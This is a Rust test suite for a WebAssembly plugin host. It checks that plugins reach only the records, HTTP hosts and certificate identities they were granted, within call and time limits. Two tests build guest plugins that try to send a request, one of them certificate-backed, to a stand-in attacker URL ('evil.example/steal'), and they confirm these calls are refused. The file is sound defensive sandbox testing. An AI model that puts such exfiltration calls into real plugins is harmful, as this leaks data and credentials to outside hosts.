//! Effects reach only what was granted, so often as was allowed, and never themselves.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use kernel_plugin_host::*;

use crate::guests::{PARAMS, component, component_1_1, component_of_version, echo};
use crate::occasion;

/// Remembers what was asked; a read runs `inside`, as a record's own hooks would.
struct Recorder {
    asked: Arc<Mutex<Vec<String>>>,
    inside: Option<Arc<dyn Fn() -> String + Send + Sync>>,
}

impl Recorder {
    fn note(&self, what: String) {
        self.asked.lock().unwrap().push(what);
    }
}

#[async_trait]
impl Powers for Recorder {
    async fn read(&mut self, entity: &str, id: &str) -> Result<String, RecordFailure> {
        self.note(format!("read {entity} {id}"));
        Ok(self.inside.as_ref().map_or_else(|| "{}".into(), |inside| inside()))
    }
    async fn find(&mut self, _: &str, _: &str) -> Result<String, RecordFailure> {
        Err(RecordFailure::Missing)
    }
    async fn create(&mut self, _: &str, _: &str) -> Result<String, RecordFailure> {
        Err(RecordFailure::Missing)
    }
    async fn update(&mut self, _: &str, _: &str, _: &str) -> Result<String, RecordFailure> {
        Err(RecordFailure::Missing)
    }
    async fn transition(&mut self, _: &str, _: &str, _: &str, _: &str) -> Result<String, RecordFailure> {
        Err(RecordFailure::Missing)
    }
    async fn kv_get(&mut self, _: &str) -> Result<Option<Vec<u8>>, KvFailure> {
        Ok(None)
    }
    async fn kv_set(&mut self, _: &str, _: &[u8], _: u64) -> Result<(), KvFailure> {
        Ok(())
    }
    async fn kv_delete(&mut self, _: &str) -> Result<(), KvFailure> {
        Ok(())
    }
    async fn kv_swap(&mut self, _: &str, _: Option<&[u8]>, _: &[u8], _: u64) -> Result<bool, KvFailure> {
        Ok(true)
    }
    async fn send(&mut self, request: HttpRequest, _: usize) -> Result<HttpResponse, HttpFailure> {
        self.note(format!("{} {}", request.method, request.url));
        // A server that takes the connection and never answers.
        std::future::pending().await
    }
    async fn sign(&mut self, _: &str, _: &[u8]) -> Result<Vec<u8>, KeyFailure> {
        Err(KeyFailure::Missing)
    }
    async fn identity_request(&mut self, name: &str, subject: &Subject) -> Result<String, IdentityFailure> {
        self.note(format!("request {name} {}", subject.common_name));
        Ok("-----BEGIN CERTIFICATE REQUEST-----".into())
    }
    async fn identity_store(&mut self, name: &str, chain: &str) -> Result<Certificate, IdentityFailure> {
        self.note(format!("store {name} {}", chain.len()));
        Err(IdentityFailure::Invalid("no certificate".into()))
    }
    async fn identity_look(&mut self, name: &str) -> Result<IdentityKept, IdentityFailure> {
        self.note(format!("look {name}"));
        Ok(IdentityKept { has_key: false, certificate: None, waiting: false })
    }
    async fn identity_discard(&mut self, name: &str) -> Result<(), IdentityFailure> {
        self.note(format!("discard {name}"));
        Ok(())
    }
    async fn send_as(&mut self, name: &str, request: HttpRequest, _: usize) -> Result<HttpResponse, Unsent> {
        self.note(format!("{} {} as {name}", request.method, request.url));
        Err(Unsent::Identity(IdentityFailure::Missing))
    }
    fn log(&mut self, _: LogLevel, message: &str) {
        self.note(format!("log {message}"));
    }
    fn now_ms(&self) -> u64 {
        1_795_000_000_000
    }
}

/// Sends to `url`, then echoes the event.
fn sender(url: &str) -> Vec<u8> {
    component(
        "effect",
        &format!(
            "(import \"baobab:plugin/http@1.0.0\" \"send\" (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32)))
             (data (i32.const 2048) \"GET{url}\")
             (func (export \"handle\") {PARAMS} (result i32)
               (call $send (i32.const 2048) (i32.const 3) (i32.const 2051) (i32.const {length}) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 128))
               (call $ok (local.get 14) (local.get 15)))",
            length = url.len()
        ),
    )
}

/// Reads `accounting.invoice` `times` times, then echoes the event.
fn reader(times: u32) -> Vec<u8> {
    component(
        "effect",
        &format!(
            "(import \"baobab:plugin/records@1.0.0\" \"read\" (func $read (param i32 i32 i32 i32 i32)))
             (data (i32.const 2048) \"accounting.invoice7\")
             (func (export \"handle\") {PARAMS} (result i32) (local $left i32)
               (local.set $left (i32.const {times}))
               (block $done (loop $again
                 (br_if $done (i32.eqz (local.get $left)))
                 (call $read (i32.const 2048) (i32.const 18) (i32.const 2066) (i32.const 1) (i32.const 128))
                 (local.set $left (i32.sub (local.get $left) (i32.const 1)))
                 (br $again)))
               (call $ok (local.get 14) (local.get 15)))"
        ),
    )
}

/// Asks for a key, stores a chain of so many bytes, looks, discards and sends to `url`, all under the name `device`; then echoes.
fn identified(chain_bytes: usize, url: &str) -> String {
    let subject = "(i32.const 2054) (i32.const 1) ".repeat(6);
    format!(
        "(import \"baobab:plugin/identities@VERSION\" \"new-request\" (func $new (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
         (import \"baobab:plugin/identities@VERSION\" \"store\" (func $store (param i32 i32 i32 i32 i32)))
         (import \"baobab:plugin/identities@VERSION\" \"look\" (func $look (param i32 i32 i32)))
         (import \"baobab:plugin/identities@VERSION\" \"discard\" (func $discard (param i32 i32 i32)))
         (import \"baobab:plugin/identities@VERSION\" \"send\" (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
         (data (i32.const 2048) \"deviceXGET{url}\")
         (func (export \"handle\") {PARAMS} (result i32)
           (call $new (i32.const 2048) (i32.const 6) {subject} (i32.const 128))
           (call $store (i32.const 2048) (i32.const 6) (i32.const 65536) (i32.const {chain_bytes}) (i32.const 256))
           (call $look (i32.const 2048) (i32.const 6) (i32.const 512))
           (call $discard (i32.const 2048) (i32.const 6) (i32.const 128))
           (call $send (i32.const 2048) (i32.const 6) (i32.const 2055) (i32.const 3) (i32.const 2058) (i32.const {length}) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 256))
           (call $ok (local.get 14) (local.get 15)))",
        length = url.len()
    )
}

fn identified_1_1(chain_bytes: usize, url: &str) -> Vec<u8> {
    component_1_1("effect", &identified(chain_bytes, url).replace("VERSION", "1.1.0"))
}

fn with_identity(name: &str) -> Grants {
    Grants { identities: [name.to_string()].into(), ..grants() }
}

fn grants() -> Grants {
    Grants {
        records: [("accounting.invoice".to_string(), [RecordUse::Read].into())].into(),
        hosts: ["https://fdms.example".to_string()].into(),
        ..Grants::default()
    }
}

async fn run(bytes: &[u8], limits: Limits, grants: Grants) -> (EffectRun, Vec<String>) {
    let host = Host::new(HostConfig { instances: 8, ..HostConfig::default() }).unwrap();
    let plugin = host.load("guest@1", World::Effect, bytes).unwrap();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let powers = Box::new(Recorder { asked: Arc::clone(&asked), inside: None });
    let run = host.effect(&plugin, &occasion(), "{\"id\":\"7\"}", limits, grants, powers).await;
    let asked = asked.lock().unwrap().clone();
    (run, asked)
}

#[tokio::test]
async fn a_host_that_was_not_granted_is_never_called_and_the_administrator_sees_which_it_was() {
    let (run, asked) = run(&sender("https://evil.example/steal"), Limits::EFFECT, grants()).await;
    assert_eq!(run.answer.unwrap(), "{\"id\":\"7\"}", "it runs on without");
    assert_eq!(asked, Vec::<String>::new());
    assert_eq!(run.refusals, [Refusal { call: "http https://evil.example/steal".into() }]);
}

#[tokio::test]
async fn a_host_that_never_answers_costs_its_time_and_no_more() {
    let limits = Limits { wall: Duration::from_millis(80), ..Limits::EFFECT };
    let (run, asked) = run(&sender("https://fdms.example/receipt"), limits, grants()).await;
    assert_eq!(asked, ["GET https://fdms.example/receipt"]);
    assert_eq!(run.answer.unwrap_err(), Fault::Time { limit_ms: 80 });
}

#[tokio::test]
async fn records_of_an_entity_need_their_grant() {
    let (granted, asked) = run(&reader(1), Limits::EFFECT, grants()).await;
    assert!(granted.answer.is_ok());
    assert_eq!(asked, ["read accounting.invoice 7"]);
    let (without, asked) = run(&reader(3), Limits::EFFECT, Grants::default()).await;
    assert!(asked.is_empty());
    assert_eq!(without.refusals, [Refusal { call: "records.read accounting.invoice".into() }]);
}

#[tokio::test]
async fn certificates_need_their_grant_under_their_own_name() {
    let guest = identified_1_1(100, "https://fdms.example/x");
    let (granted, asked) = run(&guest, Limits::EFFECT, with_identity("device")).await;
    assert_eq!(granted.answer.unwrap(), "{\"id\":\"7\"}");
    assert_eq!(
        asked,
        [
            "request device X",
            "store device 100",
            "look device",
            "discard device",
            "GET https://fdms.example/x as device"
        ]
    );
    assert_eq!(granted.refusals, []);
    // A key that may be signed with is no certificate that may be presented, and another's grant is none.
    for grants in [grants(), Grants { keys: ["device".to_string()].into(), ..grants() }, with_identity("other")] {
        let (without, asked) = run(&guest, Limits::EFFECT, grants).await;
        assert_eq!(without.answer.unwrap(), "{\"id\":\"7\"}", "it runs on without");
        assert_eq!(asked, Vec::<String>::new());
        assert_eq!(without.refusals, [Refusal { call: "identities device".into() }]);
    }
}

#[tokio::test]
async fn a_granted_certificate_goes_to_granted_hosts_alone() {
    let (run, asked) = run(&identified_1_1(0, "https://evil.example/x"), Limits::EFFECT, with_identity("device")).await;
    assert_eq!(asked.len(), 4, "{asked:?}");
    assert_eq!(run.refusals, [Refusal { call: "http https://evil.example/x".into() }]);
}

#[tokio::test]
async fn a_chain_that_is_too_long_is_never_read() {
    let (run, asked) =
        run(&identified_1_1(32_769, "https://fdms.example/x"), Limits::EFFECT, with_identity("device")).await;
    assert!(run.answer.is_ok());
    assert!(!asked.iter().any(|asked| asked.starts_with("store")), "{asked:?}");
}

#[tokio::test]
async fn the_first_version_of_the_worlds_has_no_certificates() {
    let parts = identified(0, "https://fdms.example/x").replace("VERSION", "1.0.0");
    let host = Host::new(HostConfig { instances: 8, ..HostConfig::default() }).unwrap();
    let fault = host.load("guest@1", World::Effect, &component_of_version("1.0.0", "effect", &parts)).unwrap_err();
    assert_eq!(fault, Fault::UnknownImport("baobab:plugin/identities@1.0.0".into()));
}

#[tokio::test]
async fn calls_to_the_host_are_counted() {
    let (run, asked) = run(&reader(50), Limits { host_calls: 10, ..Limits::EFFECT }, grants()).await;
    assert!(run.answer.is_ok());
    assert_eq!(asked.len(), 10);
}

#[tokio::test]
async fn an_effect_does_not_set_off_its_own_hooks() {
    let host = Arc::new(Host::new(HostConfig { instances: 8, ..HostConfig::default() }).unwrap());
    let effect = host.load("guest@1", World::Effect, &reader(1)).unwrap();
    let hook = host.load("guest@1", World::Compute, &echo()).unwrap();
    let other = host.load("other@1", World::Compute, &echo()).unwrap();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let inside = {
        let (host, asked) = (Arc::clone(&host), Arc::clone(&asked));
        Arc::new(move || {
            let own = host.compute(&hook, &occasion(), "{}", Limits::PURE).map(|answer| answer.0);
            let others = host.compute(&other, &occasion(), "{}", Limits::PURE).map(|answer| answer.0);
            asked.lock().unwrap().push(format!("{own:?} {others:?}"));
            "{}".to_string()
        })
    };
    let powers = Box::new(Recorder { asked: Arc::clone(&asked), inside: Some(inside) });
    let run = host.effect(&effect, &occasion(), "{}", Limits::EFFECT, grants(), powers).await;
    assert!(run.answer.is_ok());
    assert_eq!(asked.lock().unwrap()[1], "Err(Reentry) Ok(\"{}\")");
}
